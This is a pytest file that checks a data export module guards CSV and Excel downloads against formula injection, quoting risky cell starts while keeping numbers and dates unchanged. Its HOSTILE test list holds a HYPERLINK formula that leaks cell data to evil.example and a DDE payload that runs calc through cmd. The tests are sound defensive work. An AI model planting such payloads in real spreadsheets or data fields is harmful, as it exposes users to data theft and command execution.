"""Downloads never carry a live spreadsheet formula, and numbers stay numbers."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd

from data.export import csv_bytes, excel_bytes, neutralise, without_formulas

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
HOSTILE = [HYPERLINK, "=cmd|' /C calc'!A0", "+1+2", "-3+4", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def hostile_table() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame({
        "date": pd.date_range("2024-01-01", periods=n, freq="MS", tz="UTC"),
        "company": HOSTILE,
        "segment": pd.Categorical(["=1+1"] * n),
        "units": [-3, 5, -1, 0, 2, 7, 1],
        "share": [-3.5, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0],
        "=SUM(D2:D9)": ["Apex"] * n,  # a header from an uploaded file
    })


def test_each_dangerous_start_gets_a_leading_quote_and_nothing_else_changes():
    for value in HOSTILE:
        assert neutralise(value) == "'" + value
    for value in ["Apex", "a=b", "1-2", "", "'=already quoted"]:
        assert neutralise(value) == value
    assert neutralise(-3) == -3 and neutralise(None) is None


def test_text_columns_and_headers_are_neutralised_numbers_and_dates_are_not():
    safe = without_formulas(hostile_table())
    assert list(safe["company"]) == ["'" + v for v in HOSTILE]
    assert set(safe["segment"]) == {"'=1+1"}
    assert "'=SUM(D2:D9)" in safe.columns
    assert safe["units"].tolist()[0] == -3 and pd.api.types.is_integer_dtype(safe["units"])
    assert pd.api.types.is_datetime64_any_dtype(safe["date"])


def test_excel_download_has_no_formula_cell_and_keeps_numbers():
    sheet = openpyxl.load_workbook(io.BytesIO(excel_bytes(hostile_table(), "share_by_company"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    headers = [c.value for c in sheet[1]]
    assert "'=SUM(D2:D9)" in headers
    company = sheet.cell(row=2, column=headers.index("company") + 1)
    assert company.value == "'" + HYPERLINK and company.data_type == "s"
    units = sheet.cell(row=2, column=headers.index("units") + 1)
    assert units.value == -3 and units.data_type == "n"


def test_csv_download_quotes_formulas_and_leaves_negative_numbers_alone():
    rows = list(csv.DictReader(io.StringIO(csv_bytes(hostile_table()).decode())))
    assert [r["company"] for r in rows] == ["'" + v for v in HOSTILE]
    assert rows[0]["units"] == "-3" and rows[0]["share"] == "-3.5"
    assert "'=SUM(D2:D9)" in rows[0]


def test_unsafe_excel_would_have_held_a_formula():
    """The reason for all this: without neutralising, openpyxl writes the name as a formula cell."""
    buffer = io.BytesIO()
    pd.DataFrame({"company": [HYPERLINK]}).to_excel(buffer, index=False)
    cell = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active["A2"]
    assert cell.data_type == "f"
